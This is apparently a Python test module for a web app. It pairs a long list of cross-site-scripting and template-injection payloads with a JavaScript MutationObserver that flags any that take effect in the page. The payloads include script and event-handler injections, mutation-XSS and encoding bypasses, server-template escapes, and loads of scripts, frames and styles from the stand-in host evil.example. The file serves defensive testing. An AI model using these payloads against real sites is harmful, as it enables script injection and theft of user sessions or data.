"""Texts that would run, load or change something if any of them were read as HTML, and the look-out that sees it."""

from __future__ import annotations

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img/src=x/onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<img srcset=//evil.example/s.png>",
    "<image href=x onerror=alert(1)>",
    "＜img src=x onerror=alert(1)＞",
    "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
    "﹤img src=x onerror=alert(1)﹥",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;x-pq&#x3e;",
    "&amp;lt;x-pq&amp;gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg src=x onerror=alert(1)%3E",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=//evil.example/u.svg#x></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<iframe src=//evil.example/f></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/r'>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<style>@import '//evil.example/i.css'; *{background:url(//evil.example/b)}</style>",
    "<div style=background:url(//evil.example/d)>x</div>",
    "<x-pq style=animation-name:x onanimationstart=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    '"><x-pq onclick=alert(1)>',
    "'><x-pq onclick=alert(1)>",
    "\"'`--></style></script></textarea><x-pq>",
    "[点我](javascript:alert(1)) ![图](//evil.example/md.png)",
    "<https://evil.example/auto> [x]: //evil.example/ref",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}#{alert(1)}<%= alert(1) %>",
    "{% import os %}{{ cycler.__init__.__globals__ }}",
    "`;alert(1);//${alert(1)}",
    "\\';alert(1);//",
    '__i18n__{"key":"<img src=x onerror=alert(1)>"}',
    "javascript:alert(1)//",
    "甲\u2028alert(1)\u2029乙<x-pq>",
    "甲\u202e>gpx-qp<\u202c\u2066<x-pq>\u2069",
    "\u200b<\u200bx-pq\u200b>\ufeff<x-pq>",
    "$\\frac{<x-pq>}$ $$\\href{javascript:alert(1)}{x}$$",
)

# Runs before anything of the page: whatever is put into it, be it for a moment, is looked at.
LOOK_OUT = """
(() => {
  window.found = [];
  const tell = (what, node) => { if (window.found.length < 500) window.found.push(what + ': ' + node.outerHTML.slice(0, 160)); };
  const TAGS = new Set(['IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'MARQUEE', 'X-PQ', 'MGLYPH', 'MATH', 'VIDEO', 'AUDIO', 'IMAGE', 'TEMPLATE']);
  const OURS = new RegExp('^' + location.origin + '/(assets|static|scripts)/');
  function check(node) {
    const tag = node.tagName.toUpperCase();
    if (TAGS.has(tag)) tell('element', node);
    if (tag === 'SCRIPT' && !OURS.test(node.src) && !node.nonce) tell('script', node);
    if (tag === 'IMG' && !/^data:image\\/svg\\+xml;base64,/.test(node.src)) tell('image', node);
    if (tag === 'LINK' && !node.href.startsWith(location.origin)) tell('link', node);
    if ((tag === 'BASE' || tag === 'META') && node.closest('body')) tell('head', node);
    if (tag === 'STYLE' && /evil\\.example/.test(node.textContent)) tell('style', node);
    for (const { name, value } of node.attributes) {
      if (name.startsWith('on')) tell('handler', node);
      if (/^(xlink:)?href$|^(form)?action$/.test(name) && /^[\\s\\u0000-\\u001f]*(javascript|data|vbscript):/i.test(value)) tell('address', node);
      if (name === 'style' && /evil\\.example|animation-name:x/.test(value)) tell('style', node);
      if (name === 'srcdoc' || name === 'srcset') tell(name, node);
    }
  }
  const walk = (node) => { if (node.nodeType === 1) { check(node); node.querySelectorAll('*').forEach(check); } };
  new MutationObserver((changes) => { for (const c of changes) { if (c.type === 'attributes') check(c.target); c.addedNodes.forEach(walk); } })
    .observe(document, { childList: true, subtree: true, attributes: true });
})();
"""
